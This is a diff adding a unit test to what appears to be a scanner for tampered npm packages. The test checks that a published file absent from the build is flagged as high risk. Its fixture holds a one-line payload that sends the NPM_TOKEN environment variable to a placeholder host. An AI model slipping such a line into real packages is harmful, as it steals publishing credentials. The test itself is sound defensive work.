@@ -506,6 +506,20 @@ class NpmScanTest {
     }
 
     @Test
+    void aWrittenModuleTheCodeCanReachThroughRequireHandedOnAsAValueIsNotBuildOutput() throws Exception {
+        // require passed to a helper (or assigned) can load any name: every written module may be what it loads
+        String scripts = ",\n  \"scripts\": {\"prepare\": \"node b > dist/bundle.js\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.5", scripts),
+                "index.js", "module.exports = require('./loader')(require);\n",
+                "loader.js", "module.exports = function (r) { return function (n) { return r(n); }; };\n",
+                "cli.js", "require('./index');\n");
+        ArtifactReport a = publishAndScan(tree, "4.9.5", with(tree, "dist/bundle.js",
+                "require('https').get('https://example.invalid/?' + process.env.NPM_TOKEN);\n"));
+        assertEquals(FileStatus.PHANTOM, row(a, "package/dist/bundle.js").status());
+        assertTrue(a.verdict() == Verdict.DIVERGENT || a.verdict() == Verdict.HIGH_RISK, a.verdict().toString());
+    }
+
+    @Test
     void aWrittenModuleNamedOnlyByItsFileNameInAPathIsNotBuildOutputAndAnUnnamedOneIs() throws Exception {
         String scripts = ",\n  \"scripts\": {\"prepare\": \"node v > version.js && node b > dist/bundle.js\"}";
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.4", scripts),
